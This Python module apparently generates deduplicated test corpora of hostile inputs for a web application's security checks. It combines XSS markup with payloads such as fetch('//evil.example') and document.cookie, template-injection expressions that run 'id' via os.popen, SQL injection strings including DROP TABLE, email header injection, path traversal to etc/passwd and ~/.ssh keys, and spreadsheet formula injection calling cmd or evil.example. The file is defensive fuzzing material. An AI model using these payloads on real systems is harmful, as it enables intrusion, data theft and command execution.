"""What attackers write, put together from parts: the same each time, so that docs/security.md can count them.

Each corpus is a list without doubles, made of known tricks times the places in which such tricks stand.
"""

from itertools import product

XSS_COUNT, TEMPLATE_COUNT = 3_000, 2_000
HEADER_COUNT, NAME_COUNT, CELL_COUNT = 1_000, 1_000, 500

_BREAKS = ("", '"', "'", ">", '">', "'>", "</textarea>", "</script>", "-->", "]]>", "`", "</title>")
_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<style>@import'{}'</style>",
    "<object data=javascript:{}>",
    "<form action=javascript:{}><input type=submit>",
    "<video><source onerror={}>",
    "<marquee onstart={}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script></template>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ScRiPt>{}</ScRiPt>",
    "<img src=x onerror&#61;{}>",
    "<img \x00src=x onerror={}>",
    "<button hx-get=//evil.example/{} hx-trigger=load>",
    "<div hx-on:load={}>",
)
_CODES = (
    "alert(1)",
    "alert`1`",
    "eval(atob('YQ=='))",
    "fetch('//evil.example')",
    "document.cookie",
    "top.name",
    "&#97;lert(1)",
    "\\u0061lert(1)",
    "window['al'+'ert'](1)",
    "prompt(1)",
)

_TEMPLATE_OPENS = (
    ("{{", "}}"),
    ("{%", "%}"),
    ("${", "}"),
    ("#{", "}"),
    ("<%=", "%>"),
    ("{{{", "}}}"),
    ("[[", "]]"),
    ("{{ customer.name | ", " }}"),
    ("{% if ", " %}x{% endif %}"),
    ("{% for x in ", " %}{{ x }}{% endfor %}"),
    ("{% assign x = ", " %}{{ x }}"),
    ("{% include ", " %}"),
)
_EXPRESSIONS = (
    "7*7",
    "7*'7'",
    "config",
    "self",
    "request",
    "settings.SECRET_KEY",
    "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "customer.__class__",
    "customer.name.__class__",
    "lipsum.__globals__",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "global.process",
    "constructor.constructor",
    "system('id')",
    "debug",
    "load 'os'",
    "csrf_token",
    "url_for.__globals__",
    "range(999999999)",
    "'a'.repeat(999999999)",
    "x.y.z.w",
    '"\'"',
    "a|attr('b')",
    "import os",
)
_AROUND = ("{}", "Dear {},", "x{}y", "\n{}\n", "{0}{0}", "<b>{}</b>", "{}\x00")

_SQL = (
    "'",
    "''",
    '"',
    "\\",
    "' OR '1'='1",
    "' OR 1=1 --",
    "1; DROP TABLE invoice --",
    "') OR ('1'='1",
    "1 UNION SELECT null",
    "' UNION SELECT password FROM app_user --",
    "1/0",
    "pg_sleep(5)",
    "'||pg_sleep(5)||'",
    "%27",
    "%",
    "_",
    "%s",
    "%(id)s",
    "{id}",
    "-1",
    "0",
    "99999999999999999999999",
    "1e400",
    "NaN",
    "Infinity",
    "2026-13-45",
    "0001-01-01",
    "9999-12-31",
    "number; --",
    "-number",
    "customer__company__code",
    "password",
    "created_at desc",
    "1,2,3",
    "\u0000",
    "\u202e",
    "'; SELECT 1 --\n",
    "/**/",
    "$$x$$",
    "\U0001f600",
)

_BREAKING = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "%0d%0a", "\\r\\n")
_HEADERS = (
    "Bcc: all@evil.example",
    "To: all@evil.example",
    "Subject: changed",
    "Content-Type: text/html",
    "X-A: b",
    "Reply-To: evil@evil.example",
    "From: chief@evil.example",
    "\r\n<script>",
    "Set-Cookie: a=b",
    "MIME-Version: 2",
)
_WITH = (
    "Petra{}{}",
    "{}{}",
    "A{}{} <a@b.example>",
    "x\t{}{}",
    "{}{}\r\n\r\nbody",
    '"{}{}"',
    "=?utf-8?q?{}{}?=",
    "a@b.example{}{}",
    "a{}{}@b.example",
    "{}\t{}",
)

_UPS = ("../", "..\\", "....//", "..%2f", "%2e%2e/", "..\u2215", "/", "C:\\", "\\\\host\\share\\", "file:///")
_FILES = (
    "etc/passwd",
    "windows/win.ini",
    ".env",
    "settings.py",
    "con",
    "nul.txt",
    "a.pdf\x00.exe",
    "~/.ssh/id",
    "a" * 300,
    "x\r\ny",
)
_EXTENSIONS = ("", ".pdf", ".xlsx", ".PDF.exe", ".html", ".svg", "...", " ", ".pdf ", "\u202efdp.exe")

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "=\x00", "＋", "－", "＠")
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example";"x")',
    "cmd|' /C calc'!A0",
    "IMPORTXML(A1,B1)",
    'DDE("a")',
    'WEBSERVICE("http://evil.example")',
    "A1",
    "1;2",
    '"x"',
    "2+5+cmd|' /C calc'!A0",
    "ROW()",
    "-1+1",
    "%0A=1",
    "44 20 7946",
    "(1)",
    "$A$1",
    "{1,2}",
    "T(1)",
    'REPT("a",9)',
    "CHAR(61)",
    'EXEC("x")',
    'CALL("x")',
    'RTD("x")',
    'FILTERXML("x","y")',
    'IMAGE("x")',
    'INDIRECT("A1")',
    "NOW()",
    "RAND()",
    'INFO("os")',
    'CELL("x")',
    "ENCODEURL(1)",
    "LET(a,1,a)",
    "LAMBDA(1)",
    "X",
    "0",
    "1e3",
    "TRUE",
    "#REF!",
    "A:A",
    "Sheet1!A1",
    "'x",
    "--1",
    "1%",
)


def xss() -> list[str]:
    """Markup that would run, in the places that it breaks out of."""
    return [(cut + tag).format(code) for tag, code, cut in product(_TAGS, _CODES, _BREAKS)][:XSS_COUNT]


def templates() -> list[str]:
    """Words that another template language would work out."""
    found = [
        around.replace("{0}", "{}").replace("{}", before + word + after)
        for around, (before, after), word in product(_AROUND, _TEMPLATE_OPENS, _EXPRESSIONS)
    ]
    return found[:TEMPLATE_COUNT]


def sql() -> list[str]:
    """Words that would end a statement, or be read as a column or a figure beyond all measure."""
    return list(_SQL)


def headers() -> list[str]:
    """Names and subjects with a header in them."""
    return [form.format(cut, head) for form, cut, head in product(_WITH, _BREAKING, _HEADERS)][:HEADER_COUNT]


def names() -> list[str]:
    """Names of files that lead elsewhere."""
    return [up * 2 + name + end for up, name, end in product(_UPS, _FILES, _EXTENSIONS)][:NAME_COUNT]


def cells() -> list[str]:
    """Texts that a spreadsheet would take for a formula."""
    return [lead + rest for lead, rest in product(_LEADS, _FORMULAS)][:CELL_COUNT]
